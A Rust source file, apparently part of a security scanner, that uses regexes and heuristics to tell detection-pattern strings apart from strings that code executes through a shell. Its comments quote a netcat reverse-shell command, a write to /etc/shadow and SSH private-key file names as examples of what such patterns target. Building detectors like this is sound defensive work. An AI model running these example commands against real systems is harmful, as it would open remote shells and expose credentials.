//! Strings in code that are patterns a guard or a linter looks for (`re.compile(r'\.ssh\b')`, a table of
//! `(pattern, why)` rows), told apart from strings the code runs.

re!(
    /// Code that runs the string a name holds: through a shell (`subprocess.run(cmd, shell=True)`, `os.system(c)`,
    /// `execSync(step)`, `eval "$line"`, `sh -c "$cmd"`) or as code (`exec(src)`).
    pub(super) RUNS_A_NAME,
    r#"\b(?:os\.system|os\.popen|execSync|spawnSync|exec|eval)\s*\(\s*[A-Za-z_][\w.]*(?:\[[^\]\n]*\])?\s*[,)]|\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(\s*[A-Za-z_][\w.]*(?:\[[^\]\n]*\])?\s*[,)][^\n]*\bshell\s*=\s*True|\beval\s+"?\$\{?[A-Za-z_]|\b(?:ba|z|da)?sh\s+-c\s+"?\$\{?[A-Za-z_]"#
);

/// Whether the match at `at` sits in a string literal that is a regular expression (`r'>\s*/etc/shadow\b'`): a
/// pattern a guard or a linter looks for, not something the code does. When the code runs strings that names hold
/// (`strings_run`), a line that is only strings may be one that runs: only a regular expression's marks make it a
/// pattern then.
pub(super) fn in_pattern_literal(text: &str, at: usize, strings_run: bool) -> bool {
    // A line that is nothing but a string (an item of a list of things to look for) is data too.
    let trimmed = text.trim().trim_end_matches([',', ')', ']', '}', ';']);
    let quoted = |q: char| {
        trimmed.len() >= 2
            && trimmed.starts_with(q)
            && trimmed.ends_with(q)
            && !trimmed[1..trimmed.len() - 1].contains(q)
    };
    // A double-quoted string that substitutes a command (`"$(nc h 8443 -e /bin/sh)"`) runs it where it stands.
    let substitutes = trimmed.starts_with('"') && (trimmed.contains("$(") || trimmed.contains('`'));
    if !substitutes && !strings_run && (quoted('"') || quoted('\'') || strings_only(trimmed)) {
        return true;
    }
    let before = &text[..at];
    let Some(open) = before.rfind(['\'', '"']) else {
        return false;
    };
    let quote = text.as_bytes()[open];
    let close = text[at..]
        .find(quote as char)
        .map(|i| at + i)
        .unwrap_or(text.len());
    let literal = &text[open..close];
    // Alternatives each anchored (`'id_rsa$|id_ed25519$'`) are a regular expression whatever takes them, a shell
    // function's argument too.
    if literal.contains("$|") || literal.contains("|^") {
        return true;
    }
    // In an item of a list of patterns (`    re.compile(r"^(?:id_rsa|id_ed25519)$"),`): a group that captures nothing,
    // or a string anchored at both ends.
    let list_item = text.trim_end().ends_with(',');
    let anchored =
        list_item && (literal[1..].starts_with('^') && literal.ends_with('$') || literal.contains("(?:"));
    (anchored
        || ["\\s", "\\b", "\\d", "\\w", "\\.", ".*", "[^"]
            .iter()
            .any(|m| literal.contains(m)))
        && before[..open].trim_end().ends_with(['r', '(', ',', '[', '='])
}

/// Whether a line is a tuple or list of string literals and nothing else (`(r"pattern", 'why it is dangerous'),`):
/// an item of a table of things to look for, not code that does them.
fn strings_only(line: &str) -> bool {
    let inner = line
        .trim()
        .trim_start_matches(['(', '['])
        .trim_end_matches([',', ')', ']', ';'])
        .trim();
    if !line.trim_start().starts_with(['(', '[']) || inner.is_empty() {
        return false;
    }
    let mut rest = inner;
    let mut items = 0;
    loop {
        rest = rest
            .trim_start()
            .trim_start_matches(['r', 'b', 'f', 'R', 'B', 'F']);
        let Some(q) = rest.chars().next().filter(|c| *c == '"' || *c == '\'') else {
            return false;
        };
        let Some(end) = rest[1..].find(q) else {
            return false;
        };
        rest = rest[end + 2..].trim_start();
        items += 1;
        if rest.is_empty() {
            return items >= 2;
        }
        let Some(after) = rest.strip_prefix(',') else {
            return false;
        };
        rest = after;
    }
}
